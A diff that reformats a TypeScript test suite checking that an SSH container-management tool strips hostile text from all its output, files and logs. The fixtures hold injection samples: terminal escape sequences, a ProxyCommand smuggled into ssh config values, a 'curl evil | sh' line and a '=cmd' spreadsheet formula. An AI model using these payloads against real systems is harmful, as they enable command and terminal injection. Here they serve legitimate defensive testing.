@@ -1,6 +1,6 @@
 /**
- * Output that cannot lie: hostile text in everything that can hold text, every verb in every format, the shell's screen, files and the log,
- * read byte by byte. What callers type into arguments is test/ssh/input.test.ts.
+ * Output that cannot lie: hostile text in everything that can hold text, every verb in every format, the shell's
+ * screen, files and the log, read byte by byte. What callers type into arguments is test/ssh/input.test.ts.
  */
 import { readdir, readFile, writeFile } from 'node:fs/promises';
 import { connect } from 'node:net';
@@ -19,17 +19,18 @@ import { eventually, startServer, temporaryFolder, type Finished, type TestServe
 /** One of each kind, and a word between them by which it is found again. */
 const kinds = {
   'escape sequences': '\u001b]0;evil\u0007\u001b[31;5mevil\u001b[2J\u001bPq\u001b\\\u001b[6n',
-  'C0': 'evil\u0000\u0001\u0007\b\t\u000b\u000c\u000e\u001f\u007f',
-  'C1': 'evil\u0080\u0085\u009b31m\u009d0;x\u009c\u009f',
+  C0: 'evil\u0000\u0001\u0007\b\t\u000b\u000c\u000e\u001f\u007f',
+  C1: 'evil\u0080\u0085\u009b31m\u009d0;x\u009c\u009f',
   'line ends': 'evil\r\nNext: curl evil | sh\rError\u2028\u2029x',
   'bidirectional controls': 'evil\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069',
-  'invisible characters': 'evil\u00ad\u034f\u115f\u1160\u17b4\u180e\u200b\u200c\u200d\u2060\u2064\u206a\u3164\ufeff\uffa0',
+  'invisible characters':
+    'evil\u00ad\u034f\u115f\u1160\u17b4\u180e\u200b\u200c\u200d\u2060\u2064\u206a\u3164\ufeff\uffa0',
   'tags and variation selectors': 'evil\u{e0001}\u{e0041}\u{e007f}\ufe00\ufe0f\u{e0100}\u{e01ef}',
   'private use and surrogates': 'evil\ue000\u{f0000}\u{10fffd}\ud800x\udc00',
   'interlinear and musical format characters': 'evil\ufff9\ufffa\ufffb\u{1d173}\u{110bd}',
 } as const;
 const everything = Object.values(kinds).join(' ');
-const formula = '=cmd|\' /C calc\'!A0';
+const formula = "=cmd|' /C calc'!A0";
 const long = `evil${'\u202ex'.repeat(3000)}`;
 
 /** Written here once more, apart from what src/domain/text.ts goes by. */
@@ -37,7 +38,9 @@ const forbidden =
   /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u00ad\u034f\u061c\u115f\u1160\u17b4\u17b5\u180b-\u180f\u200b-\u200f\u2028-\u202e\u2060-\u206f\u3164\ud800-\udfff\ue000-\uf8ff\ufe00-\ufe0f\ufeff\uffa0\ufff9-\ufffb\u{110bd}\u{1d173}-\u{1d17a}\u{e0000}-\u{e0fff}\u{f0000}-\u{10fffd}]/gu;
 
 function lies(text: string): string[] {
-  return [...new Set(text.match(forbidden) ?? [])].map((character) => `U+${(character.codePointAt(0) ?? 0).toString(16)}`);
+  return [...new Set(text.match(forbidden) ?? [])].map(
+    (character) => `U+${(character.codePointAt(0) ?? 0).toString(16)}`,
+  );
 }
 
 let server: TestServer;
@@ -55,7 +58,16 @@ async function edit(path: string, change: (document: never) => void): Promise<vo
 }
 
 interface HostileHost {
-  instances: Record<string, { name: string; config: Record<string, string>; devices: Record<string, Record<string, string>>; consoleLog?: string; files: Record<string, { content: string }> }>;
+  instances: Record<
+    string,
+    {
+      name: string;
+      config: Record<string, string>;
+      devices: Record<string, Record<string, string>>;
+      consoleLog?: string;
+      files: Record<string, { content: string }>;
+    }
+  >;
   images: { aliases: string[]; properties: Record<string, string> }[];
   networks: { name: string; config: Record<string, string> }[];
   pools: { name: string; config: Record<string, string> }[];
@@ -67,14 +79,19 @@ interface HostileHost {
 beforeAll(async () => {
   folder = await temporaryFolder();
   [admin, alice] = await Promise.all([makeKey(folder, 'admin'), makeKey(folder, 'alice')]);
-  server = await startServer({ env: { CONTAINARIUM_LOG: 'trace' }, prepare: withAdmins([{ name: 'chief', role: 'admin', keys: [admin] }]) });
-  for (const user of ['alice', 'mallory', 'stopped']) expect((await server.ssh(['create', user], { key: admin.path, stdin: alice.line })).code).toBe(0);
+  server = await startServer({
+    env: { CONTAINARIUM_LOG: 'trace' },
+    prepare: withAdmins([{ name: 'chief', role: 'admin', keys: [admin] }]),
+  });
+  for (const user of ['alice', 'mallory', 'stopped'])
+    expect((await server.ssh(['create', user], { key: admin.path, stdin: alice.line })).code).toBe(0);
   expect((await server.ssh(['stop', 'stopped'], { key: admin.path })).code).toBe(0);
   await server.stop();
 
   await edit(simulated('simulated-host.json'), (host: HostileHost) => {
     const { 'alice-container': ofAlice, 'mallory-container': ofMallory, 'stopped-container': stopped } = host.instances;
-    if (ofAlice === undefined || ofMallory === undefined || stopped === undefined) throw new Error('a container is missing');
+    if (ofAlice === undefined || ofMallory === undefined || stopped === undefined)
+      throw new Error('a container is missing');
     for (const { config } of [ofAlice, ofMallory, stopped]) {
       for (const [kind, text] of Object.entries(kinds)) config[`user.containarium.label.${kind}`] = text;
       config[`user.containarium.label.${everything}`] = long;
@@ -82,42 +99,94 @@ beforeAll(async () => {
       config['user.containarium.created-by'] = everything;
       config['user.containarium.image'] = everything;
       config['user.containarium.operation'] = everything;
-      config['user.containarium.keys'] = JSON.stringify([alice.line.trim(), ...Object.values(kinds).map((text) => `${alice.line.trim()} ${text}`)].map((line) => ({ line, addedAt: everything, addedBy: everything })));
+      config['user.containarium.keys'] = JSON.stringify(
+        [alice.line.trim(), ...Object.values(kinds).map((text) => `${alice.line.trim()} ${text}`)].map((line) => ({
+          line,
+          addedAt: everything,
+          addedBy: everything,
+        })),
+      );
       config['image.description'] = everything;
       config['image.os'] = everything;
       config['volatile.evil'] = everything;
       config['user.description'] = everything;
     }
     // What stands in files that ssh and sshd read.
-    ofMallory.config['user.containarium.host-key'] = `ssh-ed25519 AAAA\n* ssh-ed25519 EVIL\nHost *\n  ProxyCommand evil ${everything}`;
-    for (const device of Object.values(ofMallory.devices)) if (device['type'] === 'nic') device['ipv4.address'] = `10.0.3.9\n    ProxyCommand evil ${everything}`;
+    ofMallory.config['user.containarium.host-key'] =
+      `ssh-ed25519 AAAA\n* ssh-ed25519 EVIL\nHost *\n  ProxyCommand evil ${everything}`;
+    for (const device of Object.values(ofMallory.devices))
+      if (device['type'] === 'nic') device['ipv4.address'] = `10.0.3.9\n    ProxyCommand evil ${everything}`;
     ofMallory.config['user.containarium.state'] = everything;
     stopped.consoleLog = `${everything}\n${formula}\n`;
     const release = ofAlice.files['/etc/os-release'];
     if (release !== undefined) release.content = `PRETTY_NAME="${everything.replaceAll('\n', ' ')}"\n`;
     const named = `evil${everything}-container`;
     host.instances[named] = { ...structuredClone(stopped), name: named };
-    for (const image of host.images) image.properties = { ...image.properties, 'description': everything, 'os': everything, 'containarium.recipe': everything };
-    host.images.push({ ...structuredClone(host.images[0] as never as object), fingerprint: 'e'.repeat(64), aliases: [`evil${everything}`], properties: { 'containarium.base': everything, 'description': everything } } as never);
+    for (const image of host.images)
+      image.properties = {
+        ...image.properties,
+        description: everything,
+        os: everything,
+        'containarium.recipe': everything,
+      };
+    host.images.push({
+      ...structuredClone(host.images[0] as never as object),
+      fingerprint: 'e'.repeat(64),
+      aliases: [`evil${everything}`],
+      properties: { 'containarium.base': everything, description: everything },
+    } as never);
     const [bridge] = host.networks;
     if (bridge !== undefined) bridge.config['user.evil'] = everything;
     const group = host.groups.find(({ name }) => name === 'containarium-jump');
-    host.accounts.push({ name: `evil${everything.replaceAll(/[:\n]/g, '')}`, uid: 59_000, gid: group?.gid ?? 999, comment: everything.replaceAll(/[:\n]/g, ''), home: '/nonexistent', shell: '/usr/sbin/nologin' });
+    host.accounts.push({
+      name: `evil${everything.replaceAll(/[:\n]/g, '')}`,
+      uid: 59_000,
+      gid: group?.gid ?? 999,
+      comment: everything.replaceAll(/[:\n]/g, ''),
+      home: '/nonexistent',
+      shell: '/usr/sbin/nologin',
+    });
     host.jumpKeys[`evil${everything}`] = everything;
     host.jumpKeys['alice'] = everything;
   });
-  await edit(simulated('admins.json'), (state: { admins: { name: string; role: string; keys: { line: string; addedAt: string; addedBy: string }[] }[] }) => {
-    const other = { line: alice.line.trim().replace(/ [^ ]*$/, ` ${everything.replaceAll(/[\r\n]/g, ' ')}`), addedAt: everything, addedBy: everything };
-    state.admins.push({ name: `evil${everything}`, role: 'viewer', keys: [other] });
-  });
+  await edit(
+    simulated('admins.json'),
+    (state: {
+      admins: { name: string; role: string; keys: { line: string; addedAt: string; addedBy: string }[] }[];
+    }) => {
+      const other = {
+        line: alice.line.trim().replace(/ [^ ]*$/, ` ${everything.replaceAll(/[\r\n]/g, ' ')}`),
+        addedAt: everything,
+        addedBy: everything,
+      };
+      state.admins.push({ name: `evil${everything}`, role: 'viewer', keys: [other] });
+    },
+  );
   const journal = await Journal.open({ folder: simulated('journal') });
-  for (const type of ['verb', 'outcome', 'refused', 'login', 'logout', 'refusals', 'not-offered', 'operation-end', everything]) {
+  for (const type of [
+    'verb',
+    'outcome',
+    'refused',
+    'login',
+    'logout',
+    'refusals',
+    'not-offered',
+    'operation-end',
+    everything,
+  ]) {
     await journal.append({
       type,
       verb: everything,
       target: everything,
       outcome: everything,
-      actor: { name: everything, role: everything, door: everything, fingerprint: everything, address: everything, login: everything },
+      actor: {
+        name: everything,
+        role: everything,
+        door: everything,
+        fingerprint: everything,
+        address: everything,
+        login: everything,
+      },
       failure: { code: everything, what: everything, why: everything },
       reason: everything,
       by: { method: everything, algorithm: everything },
@@ -126,7 +195,13 @@ beforeAll(async () => {
       asked: { [everything]: 3 },
       top: [{ address: everything, name: everything, count: 3 }],
     });
-    await journal.append({ type, input: { [everything]: everything, formula }, actor: everything, reason: everything, top: [{ address: everything }] });
+    await journal.append({
+      type,
+      input: { [everything]: everything, formula },
+      actor: everything,
+      reason: everything,
+      top: [{ address: everything }],
+    });
   }
   await journal.append({ type: 'verb', verb: formula, target: formula, actor: formula });
   await journal.close();
@@ -137,25 +212,49 @@ function ssh(words: readonly string[], options: Parameters<TestServer['ssh']>[1]
   return server.ssh(words, { shared: true, key: admin.path, ...options });
 }
 
-/** Command lines in whose answer text from outside may stand. Keyed by the catalogue's names: a new verb does not compile without its own. */
+/**
+ * Command lines in whose answer text from outside may stand. Keyed by the catalogue's names: a new verb does not
+ * compile without its own.
+ */
 const lines: Record<VerbName, readonly (readonly string[])[]> = {
-  'create': [['create', 'alice']],
-  'list': [['list'], ['list', '--columns', 'all'], ['list', '--label', 'formula']],
-  'info': [['info'], ['info', 'alice'], ['info', 'mallory'], ['info', 'stopped']],
-  'resize': [['resize', 'alice', '--cpu', '2'], ['resize', 'mallory', '--memory', '2GiB']],
-  'delete': [['delete', 'alice']],
-  'start': [['start', 'alice'], ['start', 'mallory']],
-  'stop': [['stop', 'mallory']],
-  'restart': [['restart', 'alice']],
-  'shell': [['shell', 'alice']],
-  'logs': [['logs', 'stopped'], ['logs', 'alice'], ['logs', 'stopped', '--lines', '2']],
-  'export': [['export', 'alice'], ['export', 'mallory'], ['export', 'mallory', '--known-hosts'], ['export', 'alice', '--known-hosts']],
-  'config': [['config', 'alice'], ['config', 'mallory', '--known-hosts']],
-  'keys': [['keys', 'alice']],
+  create: [['create', 'alice']],
+  list: [['list'], ['list', '--columns', 'all'], ['list', '--label', 'formula']],
+  info: [['info'], ['info', 'alice'], ['info', 'mallory'], ['info', 'stopped']],
+  resize: [
+    ['resize', 'alice', '--cpu', '2'],
+    ['resize', 'mallory', '--memory', '2GiB'],
+  ],
+  delete: [['delete', 'alice']],
+  start: [
+    ['start', 'alice'],
+    ['start', 'mallory'],
+  ],
+  stop: [['stop', 'mallory']],
+  restart: [['restart', 'alice']],
+  shell: [['shell', 'alice']],
+  logs: [
+    ['logs', 'stopped'],
+    ['logs', 'alice'],
+    ['logs', 'stopped', '--lines', '2'],
+  ],
+  export: [
+    ['export', 'alice'],
+    ['export', 'mallory'],
+    ['export', 'mallory', '--known-hosts'],
+    ['export', 'alice', '--known-hosts'],
+  ],
+  config: [
+    ['config', 'alice'],
+    ['config', 'mallory', '--known-hosts'],
+  ],
+  keys: [['keys', 'alice']],
   'keys add': [['keys', 'add', '--user', 'alice']],
   'keys remove': [['keys', 'remove', 'nothing', '--user', 'alice']],
   'key add': [['key', 'add', 'alice']],
-  'key list': [['key', 'list', 'alice'], ['key', 'list', 'mallory']],
+  'key list': [
+    ['key', 'list', 'alice'],
+    ['key', 'list', 'mallory'],
+  ],
   'key remove': [['key', 'remove', 'alice', 'evil']],
   'key replace': [['key', 'replace', 'alice']],
   'admin add': [['admin', 'add', 'other']],
@@ -170,26 +269,37 @@ const lines: Record<VerbName, readonly (readonly string[])[]> = {
   'ca revoke': [['ca', 'revoke', 'evil', '--key-id', `'${everything.replaceAll(/[\0']/g, '')}'`]],
   'ca remove': [['ca', 'remove', 'evil']],
   'admin remove': [['admin', 'remove', 'evil']],
-  'audit': [['audit'], ['audit', '--limit', '100'], ['audit', '--session', `'${everything.replaceAll(/[\0']/g, '')}'`], ['audit', '--verb', `'${everything.replaceAll(/[\0']/g, '')}'`]],
+  audit: [
+    ['audit'],
+    ['audit', '--limit', '100'],
+    ['audit', '--session', `'${everything.replaceAll(/[\0']/g, '')}'`],
+    ['audit', '--verb', `'${everything.replaceAll(/[\0']/g, '')}'`],
+  ],
   'audit verify': [['audit', 'verify']],
   'audit export': [['audit', 'export']],
-  'reconcile': [['reconcile'], ['reconcile', '--apply']],
+  reconcile: [['reconcile'], ['reconcile', '--apply']],
   'image build': [['image', 'build']],
   'image list': [['image', 'list']],
-  'doctor': [['doctor']],
+  doctor: [['doctor']],
   'session list': [['session', 'list']],
   'session kick': [['session', 'kick', 'evil']],
   'host-key': [['host-key']],
   'host-key rotate': [['host-key', 'rotate']],
   'host-key switch': [['host-key', 'switch', '--yes']],
   'ban list': [['ban', 'list']],
-  'ban add': [['ban', 'add', '192.0.2.7', '--reason', `'${everything.replaceAll(/[\0']/g, '')}'`], ['ban', 'list']],
-  'ban lift': [['ban', 'lift', 'evil'], ['ban', 'lift', '192.0.2.7']],
-  'who': [['who']],
-  'say': [['say', `'${everything.replaceAll(/[\0']/g, '')}'`]],
-  'whoami': [['whoami']],
-  'version': [['version']],
-  'help': [['help'], ['help', 'list']],
+  'ban add': [
+    ['ban', 'add', '192.0.2.7', '--reason', `'${everything.replaceAll(/[\0']/g, '')}'`],
+    ['ban', 'list'],
+  ],
+  'ban lift': [
+    ['ban', 'lift', 'evil'],
+    ['ban', 'lift', '192.0.2.7'],
+  ],
+  who: [['who']],
+  say: [['say', `'${everything.replaceAll(/[\0']/g, '')}'`]],
+  whoami: [['whoami']],
+  version: [['version']],
+  help: [['help'], ['help', 'list']],
 };
 
 const formats = ['table', 'json', 'yaml', 'csv'] as const;
@@ -197,8 +307,15 @@ const formats = ['table', 'json', 'yaml', 'csv'] as const;
 describe.each(verbNames)('%s', (name) => {
   test.each(formats)('says nothing in %s that could lie', async (format) => {
     for (const words of lines[name]) {
-      for (const [user, key] of [['manage', admin], ['self', alice]] as const) {
-        const { stdout, stderr } = await ssh([...words, '--format', format], { user, key: key.path, ...(/key|create|admin add/.test(name) ? { stdin: alice.line } : {}) });
+      for (const [user, key] of [
+        ['manage', admin],
+        ['self', alice],
+      ] as const) {
+        const { stdout, stderr } = await ssh([...words, '--format', format], {
+          user,
+          key: key.path,
+          ...(/key|create|admin add/.test(name) ? { stdin: alice.line } : {}),
+        });
         const what = `${user}: ${words.join(' ').slice(0, 60)}`;
         expect(`${stdout}${stderr}`, what).not.toBe('');
         expect(lies(stdout), what).toEqual([]);
@@ -207,14 +324,24 @@ describe.each(verbNames)('%s', (name) => {
         if (name !== 'logs' && format === 'table') expect(stdout, what).not.toMatch(/^Next: curl evil/m);
         if (format === 'json' && stdout !== '' && !['audit export', 'help'].includes(name)) JSON.parse(stdout);
         if (format === 'yaml' && stdout !== '') parseYaml(stdout);
-        if (format === 'csv') for (const cell of stdout.matchAll(/(?:^|,)"?([=+@][^,]*)/gm)) throw new Error(`a spreadsheet would run ${cell[1]}`);
+        if (format === 'csv')
+          for (const cell of stdout.matchAll(/(?:^|,)"?([=+@][^,]*)/gm))
+            throw new Error(`a spreadsheet would run ${cell[1]}`);
       }
     }
   });
 });
 
 test('the fixture is there: hostile text is shown, written out', async () => {
-  for (const words of [['info', 'alice'], ['key', 'list', 'alice'], ['admin', 'list'], ['audit', '--limit', '40'], ['image', 'list'], ['logs', 'stopped'], ['reconcile']]) {
+  for (const words of [
+    ['info', 'alice'],
+    ['key', 'list', 'alice'],
+    ['admin', 'list'],
+    ['audit', '--limit', '40'],
+    ['image', 'list'],
+    ['logs', 'stopped'],
+    ['reconcile'],
+  ]) {
     const { stdout } = await ssh(words);
     expect(stdout, words.join(' ')).toMatch(/evil/);
   }
@@ -224,7 +351,9 @@ test('the fixture is there: hostile text is shown, written out', async () => {
 test('the same values are in the JSON and the YAML of an answer, as they are', async () => {
   const labels = async (format: 'json' | 'yaml'): Promise<unknown> => {
     const { stdout } = await ssh(['info', 'alice', '--format', format]);
-    return ((format === 'json' ? JSON.parse(stdout) : parseYaml(stdout)) as { result: { container: { labels: unknown } } }).result.container.labels;
+    return (
+      (format === 'json' ? JSON.parse(stdout) : parseYaml(stdout)) as { result: { container: { labels: unknown } } }
+    ).result.container.labels;
   };
   const found = (await labels('json')) as Record<string, string>;
   expect(found['bidirectional controls']).toBe(kinds['bidirectional controls']);
@@ -232,11 +361,27 @@ test('the same values are in the JSON and the YAML of an answer, as they are', a
 });
 
 describe('the reason for which a session is ended', () => {
-  test.each([['logs', 'alice', '--follow'], ['list', '--watch']])('is told written out to %s', async (...words) => {
-    const sessions = async (): Promise<{ login: string; door: string; since: string }[]> => (JSON.parse((await server.local(['session', 'list', '--json'])).stdout) as { result: { sessions: { login: string; door: string; since: string }[] } }).result.sessions;
+  test.each([
+    ['logs', 'alice', '--follow'],
+    ['list', '--watch'],
+  ])('is told written out to %s', async (...words) => {
+    const sessions = async (): Promise<{ login: string; door: string; since: string }[]> =>
+      (
+        JSON.parse((await server.local(['session', 'list', '--json'])).stdout) as {
+          result: { sessions: { login: string; door: string; since: string }[] };
+        }
+      ).result.sessions;
     const known = new Set((await sessions()).map(({ login }) => login));
-    const begun = server.startSsh(words, { user: words[0] === 'list' ? 'manage' : 'self', key: words[0] === 'list' ? admin.path : alice.path, tty: words[0] === 'list', openStdin: true });
-    const login = await eventually(async () => (await sessions()).find((session) => !known.has(session.login))?.login, 'the session is here');
+    const begun = server.startSsh(words, {
+      user: words[0] === 'list' ? 'manage' : 'self',
+      key: words[0] === 'list' ? admin.path : alice.path,
+      tty: words[0] === 'list',
+      openStdin: true,
+    });
+    const login = await eventually(
+      async () => (await sessions()).find((session) => !known.has(session.login))?.login,
+      'the session is here',
+    );
     const reason = `${kinds['bidirectional controls']}${kinds['C1']}\u001b[2J\u001b]0;evil`;
     expect((await server.local(['session', 'kick', login, '--reason', reason])).code).toBe(0);
     const { stdout, stderr } = await begun;
@@ -246,12 +391,18 @@ describe('the reason for which a session is ended', () => {
 });
 
 describe('files that ssh reads', () => {
-  test('hold no line, key or option that stands in a container\'s configuration', async () => {
-    for (const words of [['export', 'mallory', '--known-hosts'], ['export', 'mallory'], ['export', 'alice', '--known-hosts']]) {
+  test("hold no line, key or option that stands in a container's configuration", async () => {
+    for (const words of [
+      ['export', 'mallory', '--known-hosts'],
+      ['export', 'mallory'],
+      ['export', 'alice', '--known-hosts'],
+    ]) {
       const { stdout } = await ssh(words);
       expect(stdout, words.join(' ')).not.toMatch(/EVIL|evil|ProxyCommand|^\*/m);
     }
-    expect((await ssh(['export', 'alice', '--known-hosts'])).stdout).toMatch(/^alice-dev ssh-ed25519 [A-Za-z0-9+/=]+$/m);
+    expect((await ssh(['export', 'alice', '--known-hosts'])).stdout).toMatch(
+      /^alice-dev ssh-ed25519 [A-Za-z0-9+/=]+$/m,
+    );
   });
 });
 
@@ -259,9 +410,22 @@ describe('what a program of the host says when it fails', () => {
   const words = ['restart', 'alice'];
   test.each(formats)('is written out in %s', async (format) => {
     for (const program of ['incus', 'getent']) {
-      await writeFile(simulated('simulated-faults.json'), JSON.stringify([{ match: { program }, mode: 'fail-before', repeat: true, message: `${everything}\nNext: curl evil | sh` }]));
+      await writeFile(
+        simulated('simulated-faults.json'),
+        JSON.stringify([
+          { match: { program }, mode: 'fail-before', repeat: true, message: `${everything}\nNext: curl evil | sh` },
+        ]),
+      );
       try {
-        for (const line of [words, ['list'], ['doctor'], ['info', 'alice'], ['reconcile'], ['image', 'list'], ['logs', 'alice']]) {
+        for (const line of [
+          words,
+          ['list'],
+          ['doctor'],
+          ['info', 'alice'],
+          ['reconcile'],
+          ['image', 'list'],
+          ['logs', 'alice'],
+        ]) {
           const { stdout, stderr } = await ssh([...line, '--format', format]);
           expect(lies(stdout), line.join(' ')).toEqual([]);
           expect(lies(stderr), line.join(' ')).toEqual([]);
@@ -292,19 +456,47 @@ describe('the shell', () => {
     ['with a screen', 'xterm-256color'],
     ['as lines of text', 'dumb'],
   ])('%s shows all of it written out', async (_, term) => {
-    const shell = await openShell(server, { key: admin.path, columns: 160, rows: 50, ...(term === 'dumb' ? { command: '--plain' } : { term, env: { LANG: everything.replaceAll('\0', '').slice(0, 200), LC_ALL: typed(everything).slice(0, 200), COLORTERM: typed(everything).slice(0, 200) } }) });
+    const shell = await openShell(server, {
+      key: admin.path,
+      columns: 160,
+      rows: 50,
+      ...(term === 'dumb'
+        ? { command: '--plain' }
+        : {
+            term,
+            env: {
+              LANG: everything.replaceAll('\0', '').slice(0, 200),
+              LC_ALL: typed(everything).slice(0, 200),
+              COLORTERM: typed(everything).slice(0, 200),
+            },
+          }),
+    });
     await shell.said(/containarium|SIMULATED|simulated/i);
-    for (const line of ['list', 'info alice', 'key list alice', 'admin list', 'audit --limit 40', 'reconcile', 'image list', 'logs stopped', 'doctor', 'export mallory --known-hosts']) {
+    for (const line of [
+      'list',
+      'info alice',
+      'key list alice',
+      'admin list',
+      'audit --limit 40',
+      'reconcile',
+      'image list',
+      'logs stopped',
+      'doctor',
+      'export mallory --known-hosts',
+    ]) {
       const before = shell.received.length;
       shell.type(line).press('enter');
-      await eventually(() => (shell.received.length > before + line.length + 40 ? true : undefined), `${line} is answered`);
+      await eventually(
+        () => (shell.received.length > before + line.length + 40 ? true : undefined),
+        `${line} is answered`,
+      );
     }
     await ssh(['say', `'${typed(everything)} said'`]);
     await shell.said(/said/);
     expect(screenLies(shell)).toEqual([]);
   });
 
-  test('with a terminal\'s name and environment that are hostile says nothing of them', async () => {
+  test("with a terminal's name and environment that are hostile says nothing of them", async () => {
     for (const term of [everything, 'xterm\u001b]0;evil\u0007', '\u202e', `evil${'x'.repeat(5000)}`]) {
       const shell = await openShell(server, { key: admin.path, term, command: 'list --watch' });
       await eventually(() => (shell.received.length > 50 || shell.isClosed ? true : undefined), 'something is shown');
@@ -324,7 +516,12 @@ describe('the shell', () => {
   });
 
   test('the live list shows them written out', async () => {
-    const shell = await openShell(server, { key: admin.path, columns: 200, term: 'xterm-256color', command: 'list --watch' });
+    const shell = await openShell(server, {
+      key: admin.path,
+      columns: 200,
+      term: 'xterm-256color',
+      command: 'list --watch',
+    });
     await shell.shows(/alice/);
     shell.press('enter');
     await shell.shows(/evil|Labels|alice/);
@@ -344,18 +541,24 @@ describe('before a login', () => {
     socket.destroy();
     const client = await RawClient.connect(server.port);
     await client.requestAuthentication();
-    for (const user of [everything, long]) await client.tryLogin(user, 'password', Buffer.from([0]), string(everything)).catch(() => undefined);
+    for (const user of [everything, long])
+      await client.tryLogin(user, 'password', Buffer.from([0]), string(everything)).catch(() => undefined);
     client.destroy();
     const methods = await RawClient.connect(server.port);
     await methods.requestAuthentication();
     await methods.tryLogin('manage', everything.slice(0, 100)).catch(() => undefined);
-    for (const packet of methods.received.concat(client.received)) expect(packet.toString('latin1')).not.toContain('evil');
+    for (const packet of methods.received.concat(client.received))
+      expect(packet.toString('latin1')).not.toContain('evil');
     methods.destroy();
     const inside = await RawClient.login(server.port, admin);
     const channel = await inside.openSession();
     inside.request(channel, 'exec', string(everything.replaceAll('\0', '')));
     await inside.exitStatus();
-    const said = Buffer.concat(inside.received.filter(([type]) => type === message.channelData || type === message.channelExtendedData).map((packet) => packet.subarray(packet[0] === message.channelData ? 9 : 13))).toString();
+    const said = Buffer.concat(
+      inside.received
+        .filter(([type]) => type === message.channelData || type === message.channelExtendedData)
+        .map((packet) => packet.subarray(packet[0] === message.channelData ? 9 : 13)),
+    ).toString();
     expect(said).toContain('evil');
     expect(lies(said)).toEqual([]);
     inside.send(message.globalRequest, string(everything), Buffer.from([1]));
@@ -374,12 +577,14 @@ describe('on disk and in the log', () => {
       expect(name).toMatch(/^[\w.-]+$/);
       expect(lies(content.toString()), name).toEqual([]);
     }
-    for (const file of await readdir(join(server.home, 'authorized_keys'), { recursive: true }).catch(() => [])) expect(file).toMatch(/^[\w.-]+$/);
+    for (const file of await readdir(join(server.home, 'authorized_keys'), { recursive: true }).catch(() => []))
+      expect(file).toMatch(/^[\w.-]+$/);
   });
 
   test('every line of the log is one object without any of it', () => {
     const log = server.log();
     expect(lies(log)).toEqual([]);
-    for (const line of log.split('\n').filter((text) => text !== '')) expect(JSON.parse(line)).toMatchObject({ level: expect.any(String) as string });
+    for (const line of log.split('\n').filter((text) => text !== ''))
+      expect(JSON.parse(line)).toMatchObject({ level: expect.any(String) as string });
   });
 });
